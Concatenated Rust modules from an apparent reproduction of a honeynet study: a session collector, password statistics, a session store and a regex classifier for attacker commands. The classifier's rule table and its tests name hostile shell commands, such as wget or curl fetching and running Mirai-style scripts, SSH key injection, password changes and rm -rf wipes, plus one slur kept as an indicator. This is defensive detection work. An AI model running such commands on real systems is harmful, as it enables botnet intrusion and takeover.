    pub fn ingest(&self, mut rec: SessionRecord) -> u64 {
        let mut v = self.inner.lock();
        let id = v.len() as u64;
        rec.session_id = id;
        v.push(rec);
        id
    }

    /// Ingests a batch (single lock acquisition).
    pub fn ingest_batch(&self, recs: impl IntoIterator<Item = SessionRecord>) {
        let mut v = self.inner.lock();
        for mut rec in recs {
            rec.session_id = v.len() as u64;
            v.push(rec);
        }
    }

    /// Number of sessions stored.
    pub fn len(&self) -> usize {
        self.inner.lock().len()
    }

    /// Whether the store is empty.
    pub fn is_empty(&self) -> bool {
        self.inner.lock().is_empty()
    }

    /// Freezes the collector into a chronologically sorted dataset, as the
    /// in-situ analysis interface presents it.
    pub fn into_dataset(self) -> Vec<SessionRecord> {
        let mut v = self.inner.into_inner();
        v.sort_by_key(|r| (r.start, r.session_id));
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::{Protocol, SessionEndReason};
    use hutil::Date;
    use netsim::Ipv4Addr;

    fn rec(start_hour: u8) -> SessionRecord {
        SessionRecord {
            session_id: 999, // collector must overwrite
            honeypot_id: 0,
            honeypot_ip: Ipv4Addr(1),
            client_ip: Ipv4Addr(2),
            client_port: 1,
            protocol: Protocol::Ssh,
            start: Date::new(2022, 1, 1).at(start_hour, 0, 0),
            end: Date::new(2022, 1, 1).at(start_hour, 0, 30),
            end_reason: SessionEndReason::ClientClose,
            client_version: None,
            logins: vec![],
            commands: vec![],
            uris: vec![],
            file_events: vec![],
        }
    }

    #[test]
    fn ids_are_dense_and_assigned() {
        let c = Collector::new();
        assert_eq!(c.ingest(rec(5)), 0);
        assert_eq!(c.ingest(rec(3)), 1);
        assert_eq!(c.len(), 2);
    }

    #[test]
    fn dataset_is_chronological() {
        let c = Collector::new();
        c.ingest(rec(9));
        c.ingest(rec(1));
        c.ingest_batch([rec(5), rec(2)]);
        let ds = c.into_dataset();
        assert_eq!(ds.len(), 4);
        let hours: Vec<u8> = ds.iter().map(|r| r.start.hour()).collect();
        assert_eq!(hours, vec![1, 2, 5, 9]);
    }

    #[test]
    fn concurrent_ingest_is_safe() {
        use std::sync::Arc;
        let c = Arc::new(Collector::new());
        let mut handles = Vec::new();
        for _ in 0..8 {
            let c = Arc::clone(&c);
            handles.push(std::thread::spawn(move || {
                for i in 0..100 {
                    c.ingest(rec((i % 24) as u8));
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        let ds = Arc::try_unwrap(c).unwrap().into_dataset();
        assert_eq!(ds.len(), 800);
        // Ids are a permutation of 0..800.
        let mut ids: Vec<u64> = ds.iter().map(|r| r.session_id).collect();
        ids.sort_unstable();
        assert_eq!(ids, (0..800).collect::<Vec<u64>>());
    }
}
