//! Login-attempt analysis (paper §8, Figs. 10/11).

use honeypot::SessionRecord;
use hutil::Month;
use std::borrow::Borrow;
use std::collections::{BTreeMap, HashMap, HashSet};

/// Fig. 10 data: per-month session counts for each of the overall top-N
/// passwords used in *successful* intrusions.
#[derive(Debug, Clone)]
pub struct TopPasswords {
    /// The top passwords, most frequent first.
    pub passwords: Vec<String>,
    /// Per month, counts aligned with `passwords`.
    pub by_month: BTreeMap<Month, Vec<u64>>,
}

/// Per password: total successful sessions plus a month histogram.
type PwStats = (u64, BTreeMap<Month, u64>);

/// Streaming accumulator behind [`top_passwords`]: per-password month
/// histograms grow as records are pushed; the ranking is resolved at
/// [`TopPasswordsAccumulator::finish`]. Memory stays O(unique passwords ×
/// months) regardless of stream length.
#[derive(Debug, Default)]
pub struct TopPasswordsAccumulator {
    n: usize,
    per_pw: HashMap<String, PwStats>,
}

impl TopPasswordsAccumulator {
    /// Accumulator for the top `n` passwords.
    pub fn new(n: usize) -> Self {
        Self {
            n,
            per_pw: HashMap::new(),
        }
    }

    /// Folds one session in.
    pub fn push(&mut self, rec: &SessionRecord) {
        if let Some(pw) = rec.accepted_password() {
            let slot = self.per_pw.entry(pw.to_string()).or_default();
            slot.0 += 1;
            *slot.1.entry(rec.start.date().month_of()).or_default() += 1;
        }
    }

    /// Folds another accumulator in: per-password totals and month
    /// histograms sum entry-wise. Associative and commutative; ranking
    /// happens only at [`TopPasswordsAccumulator::finish`], so merging
    /// partials over any stream partition matches the serial pass.
    pub fn merge(&mut self, other: Self) {
        for (pw, (count, months)) in other.per_pw {
            let slot = self.per_pw.entry(pw).or_default();
            slot.0 += count;
            for (month, c) in months {
                *slot.1.entry(month).or_default() += c;
            }
        }
    }

    /// Ranks and buckets the accumulated histograms.
    pub fn finish(self) -> TopPasswords {
        rank(self.per_pw.into_iter().collect(), self.n)
    }

    /// Non-consuming form of [`TopPasswordsAccumulator::finish`]: ranks
    /// the histograms accumulated so far. A live aggregator publishes
    /// this between pushes; over any stream prefix it equals `finish()`
    /// over that prefix.
    pub fn snapshot(&self) -> TopPasswords {
        rank(
            self.per_pw
                .iter()
                .map(|(p, s)| (p.clone(), s.clone()))
                .collect(),
            self.n,
        )
    }
}

/// The shared ranking step behind `finish`/`snapshot`: sort by count
/// descending (ties lexicographic), keep the top `n`, bucket per month.
fn rank(mut ranked: Vec<(String, PwStats)>, n: usize) -> TopPasswords {
    ranked.sort_by(|a, b| b.1 .0.cmp(&a.1 .0).then(a.0.cmp(&b.0)));
    ranked.truncate(n);
    let passwords: Vec<String> = ranked.iter().map(|(p, _)| p.clone()).collect();
    let mut by_month: BTreeMap<Month, Vec<u64>> = BTreeMap::new();
    for (i, (_, (_, months))) in ranked.iter().enumerate() {
        for (&month, &count) in months {
            by_month
                .entry(month)
                .or_insert_with(|| vec![0; passwords.len()])[i] = count;
        }
    }
    TopPasswords {
        passwords,
        by_month,
    }
}

/// Computes the Fig. 10 series.
///
/// Single pass over any session stream (slice, owning iterator, or
/// sessiondb scan); see [`TopPasswordsAccumulator`] for the streaming
/// form.
pub fn top_passwords<I>(sessions: I, n: usize) -> TopPasswords
where
    I: IntoIterator,
    I::Item: Borrow<SessionRecord>,
{
    let mut acc = TopPasswordsAccumulator::new(n);
    for rec in sessions {
        acc.push(rec.borrow());
    }
    acc.finish()
}

/// Fig. 11 data plus the §8 fingerprinting statistics.
#[derive(Debug, Clone)]
pub struct CowrieDefaultProbes {
    /// Per month: successful `phil` logins.
    pub phil_success: BTreeMap<Month, u64>,
    /// Per month: `richard` attempts (all fail on this deployment).
    pub richard_tries: BTreeMap<Month, u64>,
    /// Unique client IPs probing with `phil`.
    pub phil_unique_ips: u64,
    /// Fraction of `phil` sessions that disconnect without any command
    /// (paper: >90 %).
    pub phil_no_command_frac: f64,
}

/// Streaming accumulator behind [`cowrie_default_probes`].
#[derive(Debug, Default)]
pub struct ProbeAccumulator {
    phil_success: BTreeMap<Month, u64>,
    richard_tries: BTreeMap<Month, u64>,
    phil_ips: HashSet<netsim::Ipv4Addr>,
    phil_sessions: u64,
    phil_quiet: u64,
}

impl ProbeAccumulator {
    /// An empty accumulator.
    pub fn new() -> Self {
        Self::default()
    }

    /// Folds one session in.
    pub fn push(&mut self, rec: &SessionRecord) {
        let month = rec.start.date().month_of();
        let has_phil = rec.logins.iter().any(|l| l.username == "phil" && l.success);
        let has_richard = rec.logins.iter().any(|l| l.username == "richard");
        if has_phil {
            *self.phil_success.entry(month).or_default() += 1;
            self.phil_ips.insert(rec.client_ip);
            self.phil_sessions += 1;
            if rec.commands.is_empty() {
                self.phil_quiet += 1;
            }
        }
        if has_richard {
            *self.richard_tries.entry(month).or_default() += 1;
        }
    }

    /// Folds another accumulator in: month histograms sum, IP sets union,
    /// scalar counters add. Associative and commutative.
    pub fn merge(&mut self, other: Self) {
        for (month, c) in other.phil_success {
            *self.phil_success.entry(month).or_default() += c;
        }
        for (month, c) in other.richard_tries {
            *self.richard_tries.entry(month).or_default() += c;
        }
        self.phil_ips.extend(other.phil_ips);
        self.phil_sessions += other.phil_sessions;
        self.phil_quiet += other.phil_quiet;
    }

    /// Resolves the series.
    pub fn finish(self) -> CowrieDefaultProbes {
        CowrieDefaultProbes {
            phil_success: self.phil_success,
            richard_tries: self.richard_tries,
            phil_unique_ips: self.phil_ips.len() as u64,
            phil_no_command_frac: if self.phil_sessions > 0 {
                self.phil_quiet as f64 / self.phil_sessions as f64
            } else {
                0.0
            },
        }
    }
}

/// Computes the Fig. 11 series. Single pass over any session stream.
pub fn cowrie_default_probes<I>(sessions: I) -> CowrieDefaultProbes
where
    I: IntoIterator,
    I::Item: Borrow<SessionRecord>,
{
    let mut acc = ProbeAccumulator::new();
    for rec in sessions {
        acc.push(rec.borrow());
    }
    acc.finish()
}

/// §8: sessions using a specific password, with first-seen instant and
/// unique client IPs — used for the `3245gs5662d34` investigation.
#[derive(Debug, Clone)]
pub struct PasswordProfile {
    /// Total sessions accepted with the password.
    pub sessions: u64,
    /// Unique client IPs.
    pub unique_ips: u64,
    /// Earliest session start.
    pub first_seen: Option<hutil::DateTime>,
    /// Fraction of those sessions that executed zero commands.
    pub no_command_frac: f64,
}

/// Profiles one password across any session stream.
pub fn password_profile<I>(sessions: I, password: &str) -> PasswordProfile
where
    I: IntoIterator,
    I::Item: Borrow<SessionRecord>,
{
    let mut count = 0u64;
    let mut quiet = 0u64;
    let mut ips = HashSet::new();
    let mut first: Option<hutil::DateTime> = None;
    for rec in sessions {
        let rec = rec.borrow();
        if rec.accepted_password() == Some(password) {
            count += 1;
            if rec.commands.is_empty() {
                quiet += 1;
            }
            ips.insert(rec.client_ip);
            first = Some(match first {
                Some(f) if f <= rec.start => f,
                _ => rec.start,
            });
        }
    }
    PasswordProfile {
        sessions: count,
        unique_ips: ips.len() as u64,
        first_seen: first,
        no_command_frac: if count > 0 {
            quiet as f64 / count as f64
        } else {
            0.0
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use honeypot::{CommandRecord, LoginAttempt, Protocol, SessionEndReason};
    use hutil::Date;
    use netsim::Ipv4Addr;

    fn rec(
        date: Date,
        user: &str,
        pw: &str,
        success: bool,
        commands: usize,
        ip: u32,
    ) -> SessionRecord {
        SessionRecord {
            session_id: 0,
            honeypot_id: 0,
            honeypot_ip: Ipv4Addr(1),
            client_ip: Ipv4Addr(ip),
            client_port: 1,
            protocol: Protocol::Ssh,
            start: date.at(8, 0, 0),
            end: date.at(8, 1, 0),
            end_reason: SessionEndReason::ClientClose,
            client_version: None,
            logins: vec![LoginAttempt {
                username: user.into(),
                password: pw.into(),
                success,
            }],
            commands: (0..commands)
                .map(|i| CommandRecord {
                    input: format!("c{i}"),
                    known: true,
                })
                .collect(),
            uris: vec![],
            file_events: vec![],
        }
    }

    #[test]
    fn top_passwords_ranks_and_buckets() {
        let d1 = Date::new(2022, 3, 1);
        let d2 = Date::new(2022, 4, 1);
        let sessions = vec![
            rec(d1, "root", "admin", true, 0, 1),
            rec(d1, "root", "admin", true, 0, 2),
            rec(d1, "root", "1234", true, 0, 3),
            rec(d2, "root", "admin", true, 0, 4),
            rec(d2, "root", "rare", true, 0, 5),
            rec(d2, "root", "failing", false, 0, 6), // failed: not counted
        ];
        let top = top_passwords(&sessions, 2);
        assert_eq!(top.passwords, vec!["admin", "1234"]);
        assert_eq!(top.by_month[&Month::new(2022, 3)], vec![2, 1]);
        assert_eq!(top.by_month[&Month::new(2022, 4)], vec![1, 0]);
    }

    #[test]
    fn phil_and_richard_series() {
        let d1 = Date::new(2023, 1, 5);
        let sessions = vec![
            rec(d1, "phil", "x", true, 0, 1),
            rec(d1, "phil", "y", true, 0, 2),
            rec(d1, "phil", "z", true, 1, 3), // one phil session runs a command
            rec(d1, "richard", "x", false, 0, 4),
        ];
        let probes = cowrie_default_probes(&sessions);
        assert_eq!(probes.phil_success[&Month::new(2023, 1)], 3);
        assert_eq!(probes.richard_tries[&Month::new(2023, 1)], 1);
        assert_eq!(probes.phil_unique_ips, 3);
        assert!((probes.phil_no_command_frac - 2.0 / 3.0).abs() < 1e-12);
    }

    #[test]
    fn password_profile_finds_first_seen() {
        let sessions = vec![
            rec(Date::new(2022, 12, 9), "root", "3245gs5662d34", true, 0, 1),
            rec(Date::new(2022, 12, 8), "root", "3245gs5662d34", true, 0, 2),
            rec(Date::new(2023, 1, 1), "root", "3245gs5662d34", true, 0, 2),
            rec(Date::new(2022, 1, 1), "root", "other", true, 1, 3),
        ];
        let p = password_profile(&sessions, "3245gs5662d34");
        assert_eq!(p.sessions, 3);
        assert_eq!(p.unique_ips, 2);
        assert_eq!(p.first_seen.unwrap().date(), Date::new(2022, 12, 8));
        assert_eq!(p.no_command_frac, 1.0);
    }

    #[test]
    fn empty_dataset() {
        let none: &[SessionRecord] = &[];
        let top = top_passwords(none, 5);
        assert!(top.passwords.is_empty());
        let probes = cowrie_default_probes(none);
        assert_eq!(probes.phil_unique_ips, 0);
        let p = password_profile(none, "x");
        assert_eq!(p.sessions, 0);
        assert!(p.first_seen.is_none());
    }
}
