//! `abusedb` — synthetic abuse-intelligence feeds.
//!
//! The paper cross-references captured file hashes against four services
//! (abuse.ch, Team Cymru, VirusTotal, ArmstrongTechs IOCs — §3.4) and finds
//! that **less than 5 % of the 16,257 hashes are labelled** (§6); IP-side,
//! 56 % of malware-storage IPs appear in abuse feeds (§7), 988 `mdrfckr`
//! client IPs overlap the Killnet proxy list, and a C2 feed supplies
//! command-and-control addresses (§9).
//!
//! Our substitution: the botnet generator knows the *ground-truth* family
//! of every synthetic file; the abuse database is then built by sampling a
//! small, feed-specific slice of that truth — so the analysis pipeline
//! faces the same partial-knowledge problem the paper does, and the
//! clustering step (paper §6) stays necessary rather than decorative.

pub mod feeds;
pub mod iplists;

pub use feeds::{AbuseDb, CoverageConfig, FeedName, MalwareFamily};
pub use iplists::IpList;
