//! `sessiondb` — the honeynet's on-disk session store.
//!
//! The paper's dataset is 546 million sessions over 33 months; anything
//! that "hands the dataset around as a `Vec`" stops working long before
//! that scale. This crate is the storage layer the analysis pipeline
//! streams from instead: an **append-only, sharded, columnar** store with
//! a seekable binary format, built for the access pattern longitudinal
//! honeynet studies actually have — write once during collection, then
//! scan cheaply, repeatedly, and often only for a slice of the calendar.
//!
//! # Format
//!
//! A store is a directory containing a `MANIFEST` tag file and numbered
//! *segment* files (`seg-000000.hsdb`, `seg-000001.hsdb`, …), each
//! holding a bounded batch of sessions. One segment is:
//!
//! ```text
//! +--------------------------------------------------------------+
//! | header    magic "HSDB" · version u16 · flags u16     (8 B)   |
//! +--------------------------------------------------------------+
//! | block     tag=1 dictionary · len u32 · payload · crc32       |
//! | block     tag=2 rows (columnar) · len u32 · payload · crc32  |
//! +--------------------------------------------------------------+
//! | footer    rows u64 · min_start i64 · max_start i64           |
//! |           · crc32 · magic "HSF1"                    (32 B)   |
//! +--------------------------------------------------------------+
//! ```
//!
//! * **String interning** — every string a session carries (commands,
//!   usernames, passwords, URIs, paths, file hashes, client versions)
//!   is stored once in the segment's dictionary and referenced by a u32
//!   id. Honeynet traffic is extremely repetitive — the `mdrfckr`
//!   command line alone appears tens of millions of times in the paper's
//!   data — so interning collapses the dominant cost to one dictionary
//!   entry per distinct string.
//! * **Zone maps** — the footer records the min/max session start time
//!   of the segment. Time-windowed scans (Figs. 1/2/12 need slices of
//!   the calendar, not the whole study) skip every segment whose range
//!   does not intersect the window, without reading its blocks.
//! * **Integrity** — every block carries a CRC-32 of its payload and the
//!   footer carries one of its own fields; truncation, torn writes and
//!   bit flips surface as a structured [`SessionDbError::Corrupt`], never
//!   as garbage records or a panic.
//!
//! # Scanning
//!
//! [`Store::scan`] streams [`honeypot::SessionRecord`] batches segment by
//! segment — resident memory is bounded by one decoded segment, not the
//! dataset. [`Store::par_scan`] fans segments out over scoped threads for
//! out-of-core aggregation, preserving segment order in its results.
//!
//! # Writing
//!
//! [`StoreWriter`] appends records and seals a segment every
//! `rows_per_segment` rows. It implements [`honeypot::SessionSink`], so a
//! [`honeypot::Collector`] built with `Collector::with_sink` spills
//! straight to disk through the collector's retry/quarantine machinery,
//! and `botnet::generate_dataset_into` generates a 33-month dataset
//! without ever materializing it in memory.

pub mod segment;
pub mod store;
pub mod wal;

pub use segment::{SegmentMeta, SegmentReader, SegmentWriter};
pub use store::{
    is_sessiondb_path, needs_recovery, recover, recovery_preview, RecoveryReport, Scan, Store,
    StoreOptions, StoreSummary, StoreWriter,
};
pub use wal::{FsyncPolicy, WalWriter};

use std::path::Path;

/// Magic bytes opening every segment file.
pub const MAGIC: [u8; 4] = *b"HSDB";
/// Magic bytes closing every segment footer.
pub const FOOTER_MAGIC: [u8; 4] = *b"HSF1";
/// Current format version.
pub const VERSION: u16 = 1;
/// Segment file extension.
pub const SEGMENT_EXT: &str = "hsdb";
/// First line of a store directory's `MANIFEST` tag file.
pub const MANIFEST_TAG: &str = "sessiondb v1";
/// Magic bytes opening the write-ahead log.
pub const WAL_MAGIC: [u8; 4] = *b"HSWL";
/// Current WAL format version.
pub const WAL_VERSION: u16 = 1;
/// File name of a store directory's write-ahead log.
pub const WAL_FILE: &str = "wal.hswal";
/// Default number of sessions per segment. Bounds both writer and reader
/// resident memory; at typical session sizes a segment decodes to a few
/// megabytes.
pub const DEFAULT_ROWS_PER_SEGMENT: usize = 8192;

/// Everything that can go wrong reading or writing a store.
#[derive(Debug)]
pub enum SessionDbError {
    /// An underlying filesystem operation failed.
    Io {
        /// File or directory involved.
        path: String,
        /// The OS error.
        source: std::io::Error,
    },
    /// The file is not a sessiondb segment (wrong magic).
    BadMagic {
        /// Offending file.
        path: String,
    },
    /// The segment was written by an unknown format version.
    BadVersion {
        /// Offending file.
        path: String,
        /// Version found in the header.
        found: u16,
    },
    /// The segment is damaged: truncated, bit-flipped, or inconsistent.
    Corrupt {
        /// Offending file.
        path: String,
        /// What the reader tripped over.
        detail: String,
    },
    /// The path is not a sessiondb store (no manifest, no segments).
    NotAStore {
        /// Offending path.
        path: String,
    },
}

impl std::fmt::Display for SessionDbError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SessionDbError::Io { path, source } => write!(f, "{path}: {source}"),
            SessionDbError::BadMagic { path } => {
                write!(f, "{path}: not a sessiondb segment (bad magic)")
            }
            SessionDbError::BadVersion { path, found } => {
                write!(f, "{path}: unsupported sessiondb version {found}")
            }
            SessionDbError::Corrupt { path, detail } => {
                write!(f, "{path}: corrupt segment: {detail}")
            }
            SessionDbError::NotAStore { path } => {
                write!(f, "{path}: not a sessiondb store")
            }
        }
    }
}

impl std::error::Error for SessionDbError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            SessionDbError::Io { source, .. } => Some(source),
            _ => None,
        }
    }
}

impl SessionDbError {
    pub(crate) fn io(path: &Path, source: std::io::Error) -> Self {
        SessionDbError::Io {
            path: path.display().to_string(),
            source,
        }
    }

    pub(crate) fn corrupt(path: &Path, detail: impl Into<String>) -> Self {
        SessionDbError::Corrupt {
            path: path.display().to_string(),
            detail: detail.into(),
        }
    }
}
