//! The Table 1 command classifier.
//!
//! 58 regex categories plus the `unknown` fallback (59 total), evaluated
//! in precedence order over the session's full command text. Precedence
//! encodes the paper's construction: bot-specific signatures first,
//! busybox-family rules next, then the 14 generic loader-tool conjunctions
//! from most to fewest tools, so `gen_curl` never shadows
//! `gen_curl_echo_ftp_wget`.
//!
//! The slur-containing indicator string from the published table is
//! preserved verbatim only as a *match indicator* (it is a file name the
//! malware uses); its category label stays redacted exactly as in the
//! paper's figures. The paper's second redacted category has no published
//! indicator at all and is therefore not reproducible; its traffic would
//! land in one of the generic categories.

use sregex::RegexSet;

/// Label of the fallback category.
pub const UNKNOWN_LABEL: &str = "unknown";

/// The ordered rule set.
///
/// Internally a [`RegexSet`]: one Aho-Corasick pass over the command text
/// computes which rules' required literals are present, and only those
/// candidate rules (plus the handful with no extractable literal) run the
/// backtracking engine — in precedence order, so first-match semantics are
/// unchanged. See [`Classifier::classify_naive`] for the reference loop.
pub struct Classifier {
    labels: Vec<&'static str>,
    set: RegexSet,
}

/// `(label, pattern)` pairs in precedence order. 58 entries.
pub const TABLE1_RULES: &[(&str, &str)] = &[
    // --- case-study actor first: its key line contains other indicators.
    ("mdrfckr", r"mdrfckr"),
    ("curl_maxred", r"-max-redir"),
    // --- named / specific bots.
    ("rapperbot", r"ssh-rsa\s+AAAAB3NzaC1yc2EAAAADAQABA"),
    ("lenni_0451", r"lenni0451"),
    ("juicessh", r"juicessh"),
    ("clamav", r"\bclamav\b"),
    ("binx86", r"(?=.*CPU\(s\):)(?=.*bin\.x86_64)"),
    ("export_vei", r"export VEI"),
    ("cloud_print", r"cloud\s+print"),
    ("passwd123_daemon", r"(?=.*Password123)(?=.*daemon).*"),
    ("openssl_passwd", r"openssl passwd -1 \S{8}"),
    ("root_17_char_pwd", r"root:[A-Za-z0-9]{15,}\|chpasswd"),
    (
        "root_12_char_capscout",
        r"(?=.*root:[A-Za-z0-9]{12})(?=.*awk\s+'\{print\s+\$4,\$5,\$6,\$7,\$8,\$9;\}')",
    ),
    (
        "root_12_char_echo321",
        r"(?=.*root:[A-Za-z0-9]{12})(?=.*echo 321)",
    ),
    ("perl_dred_miner", r"(?=.*perl)(?=.*dred)"),
    ("stx_miner", r"(?=.*stx)(?=.*LC_ALL)"),
    ("fr***_attack", r"fuckjewishpeople"),
    ("ohshit_attack", r"ohshit"),
    ("onions_attack", r"onions1337"),
    ("sora_attack", r"sora"),
    ("heisen_attack", r"Heisenberg"),
    ("zeus_attack", r"Zeus"),
    ("update_attack", r"update\.sh"),
    ("ak47_scout", r"(?=.*\\x41\\x4b\\x34\\x37)(?=.*writable)"),
    ("wget_dget", r"(?=.*wget\s+-4)(?=.*dget\s+-4)"),
    (
        "rm_obf_pattern_1",
        r"cd\s+/tmp\s*;\s*rm\s+-rf\s+/tmp/\*\s*\|\|\s*cd\s+/var/run\s*\|\|\s*cd\s+/mnt\s*\|\|\s*cd\s+/root\s*;\s*rm\s+-rf\s+/root/\*\s*\|\|\s*cd\s+/",
    ),
    (
        "pattern_5",
        r"(?=.*rm\s+-rf\s+\*;\s*cd\s+/tmp\s*;\s*rm\s+-rf\s+\*)(?=.*x0x0x0|.*xoxoxo)",
    ),
    ("shell_fp", r"(?=.*\$\bSHELL\b)(?=.*bs=22)"),
    // --- scout/echo family (hex indicator before the plain-text one).
    ("echo_OK", r"\\x6F\\x6B"),
    ("echo_ok_txt", r"echo ok"),
    ("echo_ssh_check", r"SSH check"),
    (
        "echo_os_check",
        r"\becho\b\s+[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}",
    ),
    // --- uname family: specific flag sets before the catch-all `-a`.
    ("uname_svnrm", r"uname\s+-s\s+-v\s+-n\s+-r\s+-m"),
    (
        "uname_snri_nproc",
        r"(?=.*nproc)(?=.*\buname\s+-s\s+-n\s+-r\s+-i\b)",
    ),
    ("uname_a_nproc", r"(?=.*nproc)(?=.*\buname\s+-a\b)"),
    (
        "uname_svnr",
        r"(?=.*uname\s+-s\s+-v\s+-n\s+-r)(?=.*model\s+name)",
    ),
    ("uname_a", r"uname\s+-a"),
    // --- busybox family: specific shapes before the catch-all.
    (
        "bbox_scout_cat",
        r"/bin/busybox\s+cat\s+/proc/self/exe\s*\|\|\s*cat\s+/proc/self/exe",
    ),
    ("bbox_loaderwget", r"loader\.wget"),
    ("bbox_echo_elf", r"\\x45\\x4c\\x46"),
    (
        "bbox_5_char_v2",
        r"(?=.*/bin/busybox\s+[a-zA-Z0-9]{5})(?=.*tftp;\s+wget)",
    ),
    ("bbox_rand_exec", r"(?=.*/bin/busybox\s+[A-Z]{5})(?=.*\./)"),
    ("bbox_unlabelled", r"/bin/busybox\s|busybox\s"),
    // --- generic loader conjunctions, most tools first.
    (
        "gen_curl_echo_ftp_wget",
        r"(?=.*curl)(?=.*echo)(?=.*ftp)(?=.*wget)",
    ),
    ("gen_curl_echo_ftp", r"(?=.*curl)(?=.*echo)(?=.*ftp)"),
    ("gen_curl_echo_wget", r"(?=.*curl)(?=.*echo)(?=.*wget)"),
    ("gen_curl_ftp_wget", r"(?=.*curl)(?=.*ftp)(?=.*wget)"),
    ("gen_echo_ftp_wget", r"(?=.*echo)(?=.*ftp)(?=.*wget)"),
    ("gen_curl_echo", r"(?=.*curl)(?=.*echo)"),
    ("gen_curl_ftp", r"(?=.*curl)(?=.*ftp)"),
    ("gen_curl_wget", r"(?=.*curl)(?=.*wget)"),
    ("gen_echo_ftp", r"(?=.*echo)(?=.*ftp)"),
    ("gen_echo_wget", r"(?=.*echo)(?=.*wget)"),
    ("gen_ftp_wget", r"(?=.*ftp)(?=.*wget)"),
    ("gen_curl", r"(?=.*curl)"),
    ("gen_ftp", r"(?=.*ftp)"),
    ("gen_wget", r"(?=.*wget)"),
    ("gen_echo", r"(?=.*echo)"),
];

impl Classifier {
    /// Compiles the full Table 1 rule set.
    pub fn table1() -> Self {
        let labels: Vec<&'static str> = TABLE1_RULES.iter().map(|(label, _)| *label).collect();
        let set = RegexSet::new(TABLE1_RULES.iter().map(|(_, pat)| *pat))
            .unwrap_or_else(|e| panic!("Table 1 rule failed to compile: {e}"));
        Self { labels, set }
    }

    /// Number of regex categories (58; `unknown` is implicit).
    pub fn len(&self) -> usize {
        self.labels.len()
    }

    /// Whether the rule set is empty (never, for Table 1).
    pub fn is_empty(&self) -> bool {
        self.labels.is_empty()
    }

    /// All category labels in precedence order (without `unknown`).
    pub fn labels(&self) -> impl Iterator<Item = &'static str> + '_ {
        self.labels.iter().copied()
    }

    /// Classifies a session's command text: the first matching rule wins,
    /// `unknown` otherwise. Rules whose required literals are absent from
    /// the text are skipped without running their regex.
    pub fn classify(&self, command_text: &str) -> &'static str {
        match self.set.first_match(command_text) {
            Some(i) => self.labels[i],
            None => UNKNOWN_LABEL,
        }
    }

    /// The pre-prefilter reference implementation: every rule's regex runs
    /// in precedence order until one matches. Kept as the equivalence
    /// oracle for tests and the baseline for the `classify` bench;
    /// [`Classifier::classify`] must agree on every input.
    pub fn classify_naive(&self, command_text: &str) -> &'static str {
        self.set
            .regexes()
            .iter()
            .position(|re| re.is_match(command_text))
            .map_or(UNKNOWN_LABEL, |i| self.labels[i])
    }

    /// Rules the prefilter can skip (at least one required literal).
    pub fn prefiltered_rules(&self) -> usize {
        self.set.prefiltered_count()
    }

    /// Rules on the always-check fallback list.
    pub fn fallback_rules(&self) -> usize {
        self.set.fallback_count()
    }

    /// Total step-budget exhaustions across all rules since construction
    /// (see [`sregex::Regex::budget_exhaustions`]): the number of searches
    /// that hit the backtracking bound and therefore answered "no match"
    /// for some start positions. Non-zero values mean pathological command
    /// texts may have fallen through to later rules or `unknown`.
    pub fn budget_exhaustions(&self) -> u64 {
        self.set.budget_exhaustions()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn c() -> Classifier {
        Classifier::table1()
    }

    #[test]
    fn fifty_eight_rules_plus_unknown() {
        assert_eq!(c().len(), 58);
        let mut labels: Vec<_> = c().labels().collect();
        labels.sort_unstable();
        labels.dedup();
        assert_eq!(labels.len(), 58, "labels must be distinct");
        assert!(!labels.contains(&UNKNOWN_LABEL));
    }

    #[test]
    fn mdrfckr_wins_over_rapperbot_key_prefix() {
        let text = format!(
            r#"echo "{}">>.ssh/authorized_keys"#,
            botnet::MDRFCKR_KEY_LINE
        );
        assert_eq!(c().classify(&text), "mdrfckr");
        // A non-mdrfckr key with the same prefix is rapperbot.
        assert_eq!(
            c().classify(r#"echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAxyz hello" > k"#),
            "rapperbot"
        );
    }

    #[test]
    fn uname_precedence() {
        let cl = c();
        assert_eq!(cl.classify("uname -s -v -n -r -m"), "uname_svnrm");
        assert_eq!(cl.classify("uname -a; nproc"), "uname_a_nproc");
        assert_eq!(cl.classify("uname -s -n -r -i; nproc"), "uname_snri_nproc");
        assert_eq!(
            cl.classify(r#"uname -s -v -n -r; cat /proc/cpuinfo | grep "model name""#),
            "uname_svnr"
        );
        assert_eq!(cl.classify("uname -a"), "uname_a");
    }

    #[test]
    fn echo_family_precedence() {
        let cl = c();
        assert_eq!(cl.classify(r#"echo -e "\x6F\x6B""#), "echo_OK");
        assert_eq!(cl.classify("echo ok"), "echo_ok_txt");
        assert_eq!(cl.classify(r#"echo "SSH check alive""#), "echo_ssh_check");
        assert_eq!(
            cl.classify("echo deadbeef-dead-beef-dead-beefdeadbeef"),
            "echo_os_check"
        );
    }

    #[test]
    fn busybox_precedence() {
        let cl = c();
        assert_eq!(
            cl.classify("/bin/busybox cat /proc/self/exe || cat /proc/self/exe"),
            "bbox_scout_cat"
        );
        assert_eq!(
            cl.classify("cd /tmp; tftp; wget http://198.51.100.4/mirai-3.sh; sh mirai-3.sh; /bin/busybox XQKPD"),
            "bbox_5_char_v2"
        );
        assert_eq!(
            cl.classify("/bin/busybox KDVJSQA; ./x9k2m1"),
            "bbox_rand_exec"
        );
        assert_eq!(
            cl.classify("/bin/busybox wget http://1.2.3.4/g.sh; sh g.sh"),
            "bbox_unlabelled"
        );
        assert_eq!(
            cl.classify("wget http://x/loader.wget -O .l; sh .l"),
            "bbox_loaderwget"
        );
        assert_eq!(
            cl.classify(r#"echo -ne "\x7f\x45\x4c\x46" > .e; ./.e"#),
            "bbox_echo_elf"
        );
    }

    #[test]
    fn gen_combos_resolve_most_specific_first() {
        let cl = c();
        assert_eq!(
            cl.classify("cd /tmp; curl -O http://h/x; echo a >> x; ftpget h x x; wget http://h/x"),
            "gen_curl_echo_ftp_wget"
        );
        assert_eq!(
            cl.classify("cd /tmp; wget http://h/x.sh; sh x.sh"),
            "gen_wget"
        );
        assert_eq!(cl.classify("curl http://h/x | sh"), "gen_curl");
        assert_eq!(
            cl.classify("cd /tmp; wget http://h/x; curl -O http://h/x"),
            "gen_curl_wget"
        );
